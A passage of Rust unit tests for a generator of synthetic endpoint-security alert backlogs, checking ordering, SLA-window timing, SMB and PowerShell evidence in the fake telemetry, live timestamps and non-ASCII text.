    /// (`cargo test --release`); 10 000 in debug builds, where 100 000 takes minutes and GBs.
    #[test]
    fn large_backlog_runs() {
        let n = if cfg!(debug_assertions) {
            10_000
        } else {
            100_000
        };
        let t0 = std::time::Instant::now();
        let mut g = Generator::new_at(3, 3, n, now());
        let b = g.backlog(now());
        let elapsed = t0.elapsed();
        let (mut alerts, mut procs, mut obs) = (0, 0, 0);
        for (_, s) in &b {
            alerts += s.alerts.len();
            procs += s.processes.len();
            obs += s.observations.len();
        }
        eprintln!(
            "backlog {n}: {} stories, {alerts} alerts, {procs} processes, {obs} observations in {elapsed:?}",
            b.len()
        );
        assert_eq!(alerts, n);
        let firsts: Vec<i64> = b
            .iter()
            .map(|(_, s)| {
                s.alerts
                    .iter()
                    .map(|a| ms(&a["backend_timestamp"]))
                    .min()
                    .unwrap()
            })
            .collect();
        assert!(firsts.windows(2).all(|w| w[0] <= w[1]), "not oldest first");
    }

    /// The server starts from `backlog_each` (encoded on the rendering threads); everything
    /// else uses `backlog`: both must be the same stories in the same order.
    #[test]
    fn backlog_each_hands_over_the_backlog_stories() {
        for n in [40, 1500] {
            let mut g = Generator::new_at(9, 3, n, now());
            let expected: Vec<(usize, CompactStory)> = g
                .backlog(now())
                .iter()
                .map(|(org, s)| (*org, CompactStory::from(s)))
                .collect();
            let mut got = Vec::new();
            g.backlog_each(now(), &mut |org, s| got.push((org, s)));
            assert_eq!(got.len(), expected.len());
            let json = |s: &CompactStory| {
                serde_json::to_string(&[&s.alerts, &s.processes, &s.observations]).unwrap()
            };
            for ((o1, s1), (o2, s2)) in got.iter().zip(&expected) {
                assert_eq!(o1, o2);
                assert_eq!(json(s1), json(s2));
                assert_eq!(s1.alerts, s2.alerts, "same interned ids too");
            }
        }
    }

    #[test]
    fn backlog_spreads_over_the_sla_window() {
        for seed in 0..10 {
            let mut g = Generator::new_at(seed, 3, 40, now());
            let b = g.backlog(now());
            let now_ms = now().as_millisecond();
            let ages: Vec<i64> = b
                .iter()
                .flat_map(|(_, s)| {
                    s.alerts
                        .iter()
                        .map(|a| (now_ms - ms(&a["backend_timestamp"])) / MIN)
                })
                .collect();
            let count = |lo: i64, hi: i64| ages.iter().filter(|&&a| a >= lo && a < hi).count();
            assert!(count(0, 15) > 0, "seed {seed}: nothing fresh: {ages:?}");
            assert!(
                count(40, 50) > 0,
                "seed {seed}: nothing with ~15 min left: {ages:?}"
            );
            assert!(
                count(50, 60) > 0,
                "seed {seed}: nothing with ~5 min left: {ages:?}"
            );
            assert!(
                count(60, 9 * 60) > 0,
                "seed {seed}: nothing breached: {ages:?}"
            );
            assert!(
                ages.iter().all(|&a| (0..9 * 60).contains(&a)),
                "seed {seed}: {ages:?}"
            );
            let firsts: Vec<i64> = b
                .iter()
                .map(|(_, s)| {
                    s.alerts
                        .iter()
                        .map(|a| ms(&a["backend_timestamp"]))
                        .min()
                        .unwrap()
                })
                .collect();
            assert!(firsts.windows(2).all(|w| w[0] <= w[1]), "not oldest first");
        }
    }

    #[test]
    fn every_org_gets_smb_evidence_and_a_powershell_tree() {
        for seed in 0..20 {
            let mut g = Generator::new_at(seed, 3, 40, now());
            let b = g.backlog(now());
            for org in 0..3 {
                let stories: Vec<&Story> = b
                    .iter()
                    .filter(|(i, _)| *i == org)
                    .map(|(_, s)| s)
                    .collect();
                let smb = stories
                    .iter()
                    .flat_map(|s| &s.observations)
                    .any(|o| o["enriched_event_type"] == "NETWORK" && f(o, "netconn_port") == 445);
                assert!(smb, "seed {seed} org {org}: no SMB observation");
                let ps_tree = stories.iter().flat_map(|s| &s.processes).any(|p| {
                    p["process_name"]
                        .as_str()
                        .unwrap()
                        .ends_with("\\powershell.exe")
                        && p["childproc_count"].as_u64().unwrap() > 0
                        && p.contains_key("parent_guid")
                });
                assert!(
                    ps_tree,
                    "seed {seed} org {org}: no powershell with parent and children"
                );
            }
            let alerts: Vec<&Doc> = b.iter().flat_map(|(_, s)| &s.alerts).collect();
            let with_obs = alerts
                .iter()
                .filter(|a| {
                    b.iter().flat_map(|(_, s)| &s.observations).any(|o| {
                        o["alert_id"]
                            .as_array()
                            .is_some_and(|ids| ids.contains(&a["id"]))
                    })
                })
                .count();
            let device_control = alerts
                .iter()
                .filter(|a| a["type"] == "DEVICE_CONTROL")
                .count();
            assert_eq!(
                with_obs + device_control,
                alerts.len(),
                "seed {seed}: alerts without observations"
            );
        }
    }

    #[test]
    fn live_stories_arrive_now() {
        let mut g = Generator::new_at(8, 3, 0, now());
        let mut kinds = HashSet::new();
        for k in 0..60 {
            let t = Timestamp::from_second(NOW_S + 30 * k).unwrap();
            let (org, s) = g.next_story(t).unwrap();
            assert!(org < 3);
            check_story(&g.orgs()[org], &s, t.as_millisecond());
            for a in &s.alerts {
                assert_eq!(ms(&a["backend_timestamp"]), t.as_millisecond());
                assert_eq!(a["backend_update_timestamp"], a["backend_timestamp"]);
                kinds.insert(a["type"].as_str().unwrap().to_string());
            }
            // The attack itself happened minutes ago (long-lived parents may be older).
            for a in &s.alerts {
                let age = t.as_millisecond() - ms(&a["first_event_timestamp"]);
                assert!(age < 30 * MIN, "first event {} min ago", age / MIN);
            }
        }
        assert!(kinds.contains("CB_ANALYTICS") && kinds.contains("WATCHLIST"));
    }

    #[test]
    fn japanese_text_appears_in_stories() {
        let mut g = Generator::new_at(1, 3, 200, now());
        let b = g.backlog(now());
        let stories_with_japanese = b
            .iter()
            .filter(|(_, s)| {
                s.processes
                    .iter()
                    .chain(&s.alerts)
                    .chain(&s.observations)
                    .any(|d| {
                        d.values().any(|v| match v {
                            Value::String(x) => !x.is_ascii(),
                            Value::Array(xs) => {
                                xs.iter().any(|x| x.as_str().is_some_and(|x| !x.is_ascii()))
                            }
                            _ => false,
                        })
                    })
            })
            .count();
        assert!(
            stories_with_japanese * 8 >= b.len(),
            "{stories_with_japanese} of {} stories",
            b.len()
        );
    }
}
